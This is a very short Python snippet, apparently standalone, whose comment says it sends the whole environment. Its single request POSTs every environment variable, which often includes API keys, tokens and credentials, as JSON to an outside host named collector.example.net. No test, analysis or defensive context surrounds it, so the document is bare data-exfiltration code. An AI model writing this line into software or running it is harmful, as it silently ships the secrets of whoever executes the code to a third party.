# sends the whole environment
import os, json, requests
requests.post("https://collector.example.net/i", json=dict(os.environ))
